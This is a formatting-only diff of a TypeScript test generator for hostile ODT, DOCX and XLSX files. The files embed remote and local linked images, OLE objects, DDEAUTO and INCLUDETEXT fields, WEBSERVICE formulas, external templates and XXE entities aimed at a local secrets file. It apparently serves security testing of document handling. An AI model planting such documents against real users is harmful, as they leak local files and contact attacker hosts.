@@ -26,9 +26,16 @@ async function odf(target: string, mimetype: string, body: string): Promise<void
     { name: 'mimetype', data: Buffer.from(mimetype), level: 0 },
     {
       name: 'META-INF/manifest.xml',
-      data: xml(`<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`),
+      data: xml(
+        `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
+      ),
     },
-    { name: 'content.xml', data: xml(`<office:document-content ${NS} office:version="1.2"><office:body>${body}</office:body></office:document-content>`) },
+    {
+      name: 'content.xml',
+      data: xml(
+        `<office:document-content ${NS} office:version="1.2"><office:body>${body}</office:body></office:document-content>`,
+      ),
+    },
   ]);
 }
 
@@ -41,16 +48,36 @@ const linkedObject = (href: string, n: number) =>
 const linkedSection = (href: string, n: number) =>
   `<text:section text:name="s${n}"><text:section-source xlink:href="${href}" xlink:type="simple" xlink:show="embed"/><text:p>Linked section ${n}</text:p></text:section>`;
 
-async function docx(target: string, body: string, rels: string[], extra: Array<{ name: string; data: Buffer }> = []): Promise<void> {
+async function docx(
+  target: string,
+  body: string,
+  rels: string[],
+  extra: Array<{ name: string; data: Buffer }> = [],
+): Promise<void> {
   const ns = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"`;
   await writeParts(target, [
     {
       name: '[Content_Types].xml',
-      data: xml(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`),
+      data: xml(
+        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`,
+      ),
     },
-    { name: '_rels/.rels', data: xml(`<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`) },
-    { name: 'word/_rels/document.xml.rels', data: xml(`<Relationships xmlns="${REL_NS}"><Relationship Id="rIdS" Type="${REL}/settings" Target="settings.xml"/>${rels.join('')}</Relationships>`) },
-    { name: 'word/document.xml', data: xml(`<w:document ${ns}><w:body><w:p><w:r><w:t>Hostile document</w:t></w:r></w:p>${body}</w:body></w:document>`) },
+    {
+      name: '_rels/.rels',
+      data: xml(
+        `<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
+      ),
+    },
+    {
+      name: 'word/_rels/document.xml.rels',
+      data: xml(
+        `<Relationships xmlns="${REL_NS}"><Relationship Id="rIdS" Type="${REL}/settings" Target="settings.xml"/>${rels.join('')}</Relationships>`,
+      ),
+    },
+    {
+      name: 'word/document.xml',
+      data: xml(`<w:document ${ns}><w:body><w:p><w:r><w:t>Hostile document</w:t></w:r></w:p>${body}</w:body></w:document>`),
+    },
     ...extra,
   ]);
 }
@@ -61,21 +88,47 @@ const linkedBlip = (rid: string, n: number) =>
 const field = (instr: string) =>
   `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${instr} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>stale</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
 
-const external = (id: string, type: string, target: string) => `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;
+const external = (id: string, type: string, target: string) =>
+  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;
 
-async function xlsx(target: string, cells: string, extra: Array<{ name: string; data: Buffer }> = [], workbookRels = '', workbookExtra = ''): Promise<void> {
+async function xlsx(
+  target: string,
+  cells: string,
+  extra: Array<{ name: string; data: Buffer }> = [],
+  workbookRels = '',
+  workbookExtra = '',
+): Promise<void> {
   await writeParts(target, [
     {
       name: '[Content_Types].xml',
-      data: xml(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`),
+      data: xml(
+        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`,
+      ),
     },
-    { name: '_rels/.rels', data: xml(`<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`) },
+    {
+      name: '_rels/.rels',
+      data: xml(
+        `<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+      ),
+    },
     {
       name: 'xl/workbook.xml',
-      data: xml(`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>${workbookExtra}<calcPr fullCalcOnLoad="1"/></workbook>`),
+      data: xml(
+        `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>${workbookExtra}<calcPr fullCalcOnLoad="1"/></workbook>`,
+      ),
     },
-    { name: 'xl/_rels/workbook.xml.rels', data: xml(`<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>${workbookRels}</Relationships>`) },
-    { name: 'xl/worksheets/sheet1.xml', data: xml(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`) },
+    {
+      name: 'xl/_rels/workbook.xml.rels',
+      data: xml(
+        `<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>${workbookRels}</Relationships>`,
+      ),
+    },
+    {
+      name: 'xl/worksheets/sheet1.xml',
+      data: xml(
+        `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
+      ),
+    },
     ...extra,
   ]);
 }
@@ -86,19 +139,31 @@ export const OFFICE_DOORS: readonly Door[] = [
     name: 'ODT linked pictures (remote and local)',
     file: 'linked-pictures.odt',
     build: (t, remote, local) =>
-      odf(t, 'application/vnd.oasis.opendocument.text', `<office:text>${linkedImage(`${remote}/odt-image.png`, 1)}${linkedImage(pathToFileURL(local).href, 2)}${linkedImage(local, 3)}</office:text>`),
+      odf(
+        t,
+        'application/vnd.oasis.opendocument.text',
+        `<office:text>${linkedImage(`${remote}/odt-image.png`, 1)}${linkedImage(pathToFileURL(local).href, 2)}${linkedImage(local, 3)}</office:text>`,
+      ),
   },
   {
     name: 'ODT linked OLE objects',
     file: 'linked-objects.odt',
     build: (t, remote, local) =>
-      odf(t, 'application/vnd.oasis.opendocument.text', `<office:text>${linkedObject(`${remote}/odt-object.odt`, 1)}${linkedObject(pathToFileURL(local).href, 2)}</office:text>`),
+      odf(
+        t,
+        'application/vnd.oasis.opendocument.text',
+        `<office:text>${linkedObject(`${remote}/odt-object.odt`, 1)}${linkedObject(pathToFileURL(local).href, 2)}</office:text>`,
+      ),
   },
   {
     name: 'ODT linked sections',
     file: 'linked-sections.odt',
     build: (t, remote, local) =>
-      odf(t, 'application/vnd.oasis.opendocument.text', `<office:text>${linkedSection(`${remote}/odt-section.html`, 1)}${linkedSection(pathToFileURL(path.join(path.dirname(local), 'secret-notes.txt')).href, 2)}</office:text>`),
+      odf(
+        t,
+        'application/vnd.oasis.opendocument.text',
+        `<office:text>${linkedSection(`${remote}/odt-section.html`, 1)}${linkedSection(pathToFileURL(path.join(path.dirname(local), 'secret-notes.txt')).href, 2)}</office:text>`,
+      ),
   },
   {
     name: 'ODS DDE link and WEBSERVICE',
@@ -114,21 +179,40 @@ export const OFFICE_DOORS: readonly Door[] = [
     name: 'DOCX linked pictures and external template',
     file: 'linked-pictures.docx',
     build: (t, remote, local) =>
-      docx(t, `${linkedBlip('rIdL1', 1)}${linkedBlip('rIdL2', 2)}`, [external('rIdL1', 'image', `${remote}/docx-image.png`), external('rIdL2', 'image', pathToFileURL(local).href)], [
-        { name: 'word/settings.xml', data: xml(`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rIdT"/></w:settings>`) },
-        { name: 'word/_rels/settings.xml.rels', data: xml(`<Relationships xmlns="${REL_NS}">${external('rIdT', 'attachedTemplate', `${remote}/docx-template.dotx`)}</Relationships>`) },
-      ]),
+      docx(
+        t,
+        `${linkedBlip('rIdL1', 1)}${linkedBlip('rIdL2', 2)}`,
+        [external('rIdL1', 'image', `${remote}/docx-image.png`), external('rIdL2', 'image', pathToFileURL(local).href)],
+        [
+          {
+            name: 'word/settings.xml',
+            data: xml(
+              `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rIdT"/></w:settings>`,
+            ),
+          },
+          {
+            name: 'word/_rels/settings.xml.rels',
+            data: xml(
+              `<Relationships xmlns="${REL_NS}">${external('rIdT', 'attachedTemplate', `${remote}/docx-template.dotx`)}</Relationships>`,
+            ),
+          },
+        ],
+      ),
   },
   {
     name: 'DOCX INCLUDEPICTURE, INCLUDETEXT and DDE fields',
     file: 'fields.docx',
     build: (t, remote, local) =>
-      docx(t, [
-        field(`INCLUDEPICTURE "${remote}/docx-includepicture.png" \\d`),
-        field(`INCLUDEPICTURE "${local.replace(/\\/g, '\\\\')}"`),
-        field(`INCLUDETEXT "${remote}/docx-includetext.docx"`),
-        field(`DDEAUTO soffice "${pathToFileURL(local).href}" "A1"`),
-      ].join(''), []),
+      docx(
+        t,
+        [
+          field(`INCLUDEPICTURE "${remote}/docx-includepicture.png" \\d`),
+          field(`INCLUDEPICTURE "${local.replace(/\\/g, '\\\\')}"`),
+          field(`INCLUDETEXT "${remote}/docx-includetext.docx"`),
+          field(`DDEAUTO soffice "${pathToFileURL(local).href}" "A1"`),
+        ].join(''),
+        [],
+      ),
   },
   {
     name: 'DOCX linked OLE object and sub-document',
@@ -149,10 +233,22 @@ export const OFFICE_DOORS: readonly Door[] = [
       await writeParts(t, [
         {
           name: '[Content_Types].xml',
-          data: xml(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
+          data: xml(
+            `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
+          ),
         },
-        { name: '_rels/.rels', data: xml(`<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`) },
-        { name: 'word/document.xml', data: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>A &secret; B &remote; C</w:t></w:r></w:p></w:body></w:document>`) },
+        {
+          name: '_rels/.rels',
+          data: xml(
+            `<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
+          ),
+        },
+        {
+          name: 'word/document.xml',
+          data: Buffer.from(
+            `<?xml version="1.0" encoding="UTF-8"?>${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>A &secret; B &remote; C</w:t></w:r></w:p></w:body></w:document>`,
+          ),
+        },
       ]);
     },
   },
@@ -164,8 +260,18 @@ export const OFFICE_DOORS: readonly Door[] = [
         t,
         `<c r="A1" t="str"><f>WEBSERVICE("${remote}/xlsx-webservice")</f></c><c r="B1"><f>[1]Sheet1!A1</f></c>`,
         [
-          { name: 'xl/externalLinks/externalLink1.xml', data: xml(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`) },
-          { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', data: xml(`<Relationships xmlns="${REL_NS}">${external('rId1', 'externalLinkPath', `${remote}/xlsx-external.xlsx`)}</Relationships>`) },
+          {
+            name: 'xl/externalLinks/externalLink1.xml',
+            data: xml(
+              `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
+            ),
+          },
+          {
+            name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
+            data: xml(
+              `<Relationships xmlns="${REL_NS}">${external('rId1', 'externalLinkPath', `${remote}/xlsx-external.xlsx`)}</Relationships>`,
+            ),
+          },
         ],
         `<Relationship Id="rId2" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/>`,
         '<externalReferences><externalReference r:id="rId2"/></externalReferences>',
